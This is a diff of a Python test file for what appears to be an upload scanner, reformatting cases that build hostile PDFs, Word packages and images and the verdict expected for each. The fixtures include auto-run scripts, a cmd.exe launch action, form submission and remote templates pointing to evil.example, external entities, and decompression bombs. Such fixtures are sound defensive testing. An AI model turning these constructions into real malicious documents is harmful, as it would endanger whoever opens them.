@@ -23,35 +23,59 @@ HUNDRED = 100 << 20
 # what it is: (bytes, code)
 PDFS = {
     "a script among packed objects": lambda: (
-        hostile.packed_pdf(b"/OpenAction 4 0 R", more={4: SCRIPT}), "file.active"),
+        hostile.packed_pdf(b"/OpenAction 4 0 R", more={4: SCRIPT}),
+        "file.active",
+    ),
     "a program to launch among packed objects": lambda: (
-        hostile.packed_pdf(b"/OpenAction 4 0 R", more={4: b"<</S/Launch/F(cmd.exe)>>"}), "file.active"),
+        hostile.packed_pdf(b"/OpenAction 4 0 R", more={4: b"<</S/Launch/F(cmd.exe)>>"}),
+        "file.active",
+    ),
     "a form that is sent elsewhere": lambda: (
-        hostile.pdf(catalogue=b"/OpenAction<</S/SubmitForm/F(http://evil.example/)>>"), "file.active"),
+        hostile.pdf(catalogue=b"/OpenAction<</S/SubmitForm/F(http://evil.example/)>>"),
+        "file.active",
+    ),
     "a form in the form language": lambda: (hostile.pdf(catalogue=b"/AcroForm<</XFA 4 0 R/Fields[]>>"), "file.active"),
     "a film with a player": lambda: (
-        hostile.pdf(page=hostile.PAGE[:-2] + b"/Annots[<</Subtype/RichMedia/Rect[0 0 5 5]>>]>>"), "file.active"),
+        hostile.pdf(page=hostile.PAGE[:-2] + b"/Annots[<</Subtype/RichMedia/Rect[0 0 5 5]>>]>>"),
+        "file.active",
+    ),
     "a program attached": lambda: (hostile.pdf_with_a_program(), "file.mixed"),
     "a file pinned to a page": lambda: (
-        hostile.pdf(page=hostile.PAGE[:-2] + b"/Annots[<</Subtype/FileAttachment/Rect[0 0 5 5]>>]>>"), "file.mixed"),
+        hostile.pdf(page=hostile.PAGE[:-2] + b"/Annots[<</Subtype/FileAttachment/Rect[0 0 5 5]>>]>>"),
+        "file.mixed",
+    ),
     "100 MB of packed objects": lambda: (hostile.packed_pdf(ballast=HUNDRED), "file.bomb"),
     "600 MB packed twice": lambda: (hostile.packed_pdf(ballast=VAST, how="twice"), "file.bomb"),
     "600 MB far from their name": lambda: (hostile.packed_pdf(ballast=VAST, how="far"), "file.bomb"),
     "a script behind encryption": lambda: (
         hostile.locked_pdf(zlib.compress(b"6 0 " + SCRIPT), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"),
-        "STORED"),  # nothing leads to it
-    "pages in a circle": lambda: (
-        hostile.pdf({2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"}), "file.broken"),
-    "20,000 pages one inside the other": lambda: (hostile.pdf({
-        2: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
-        **{n: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(4, 20_000)}, 20_000: hostile.PAGE,
-    }), "file.broken"),
-    "a page tree that doubles forty times": lambda: (hostile.pdf({
-        2: b"<</Type/Pages/Kids[4 0 R]/Count %d>>" % 2**40,
-        **{n: b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count %d>>" % (n + 1, n + 1, 2 ** (44 - n)) for n in range(4, 44)},
-        44: hostile.PAGE,
-    }), "file.broken"),
-}  # fmt: skip
+        "STORED",
+    ),  # nothing leads to it
+    "pages in a circle": lambda: (hostile.pdf({2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>"}), "file.broken"),
+    "20,000 pages one inside the other": lambda: (
+        hostile.pdf(
+            {
+                2: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
+                **{n: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (n + 1) for n in range(4, 20_000)},
+                20_000: hostile.PAGE,
+            }
+        ),
+        "file.broken",
+    ),
+    "a page tree that doubles forty times": lambda: (
+        hostile.pdf(
+            {
+                2: b"<</Type/Pages/Kids[4 0 R]/Count %d>>" % 2**40,
+                **{
+                    n: b"<</Type/Pages/Kids[%d 0 R %d 0 R]/Count %d>>" % (n + 1, n + 1, 2 ** (44 - n))
+                    for n in range(4, 44)
+                },
+                44: hostile.PAGE,
+            }
+        ),
+        "file.broken",
+    ),
+}
 
 
 def outcome(content: bytes, name: str) -> str:
@@ -106,17 +130,23 @@ PACKAGES = {
     "an entity from outside": (hostile.word("word/a.xml", hostile.OUTSIDE.encode()), "file.active"),
     "the same in two bytes a sign": (hostile.word("word/a.xml", hostile.OUTSIDE.encode("utf-16")), "file.active"),
     "a template from elsewhere": (
-        hostile.word(REL, hostile.TEMPLATE % (b"http://evil.example/x.dotm", b"attachedTemplate")), "file.active"),
+        hostile.word(REL, hostile.TEMPLATE % (b"http://evil.example/x.dotm", b"attachedTemplate")),
+        "file.active",
+    ),
     "an object from elsewhere": (
-        hostile.word(REL, hostile.TEMPLATE % (b"mhtml:http://evil.example/x!y", b"oleObject")), "file.active"),
+        hostile.word(REL, hostile.TEMPLATE % (b"mhtml:http://evil.example/x!y", b"oleObject")),
+        "file.active",
+    ),
     "an old macro sheet": (hostile.word("xl/macrosheets/sheet1.xml"), "file.active"),
     "a control": (hostile.word("word/activeX/activeX1.bin"), "file.active"),
     "4 GB of memory for 300 bytes": (hostile.vast_dictionary(), "file.broken"),
     "a link to a page": (hostile.word(REL, hostile.TEMPLATE % (b"http://www.gov.cn/", b"hyperlink")), "STORED"),
     "a template on the author's disk": (
-        hostile.word(REL, hostile.TEMPLATE % (b"file:///C:/Users/li/Normal.dotm", b"attachedTemplate")), "STORED"),
+        hostile.word(REL, hostile.TEMPLATE % (b"file:///C:/Users/li/Normal.dotm", b"attachedTemplate")),
+        "STORED",
+    ),
     "the table behind a chart": (hostile.word("word/embeddings/t.xlsx", bytes_of.package("xl/workbook.xml")), "STORED"),
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize(("content", "code"), PACKAGES.values(), ids=PACKAGES)
@@ -131,12 +161,14 @@ PICTURES = {
     "a million small chunks": lambda: hostile.png_with(hostile.chunk(b"tEXt", b"a\0b") * 1_000_000),
     "100,000 frames": lambda: hostile.png_with(hostile.chunk(b"fcTL", bytes(26)) * 100_000),
     "half a gigabyte of colour profile": lambda: hostile.png_with(
-        hostile.chunk(b"iCCP", b"x\0\0" + hostile.packed_zeros(512 << 20))),
+        hostile.chunk(b"iCCP", b"x\0\0" + hostile.packed_zeros(512 << 20))
+    ),
     "half a gigabyte of words": lambda: hostile.png_with(
-        hostile.chunk(b"zTXt", b"x\0\0" + hostile.packed_zeros(512 << 20))),
+        hostile.chunk(b"zTXt", b"x\0\0" + hostile.packed_zeros(512 << 20))
+    ),
     "5,000 scans": lambda: hostile.jpeg_of_many_scans(5_000),
     "500,000 segments": lambda: hostile.jpeg_of_many_segments(500_000),
-}  # fmt: skip
+}
 
 
 @pytest.mark.parametrize("made", PICTURES.values(), ids=PICTURES)
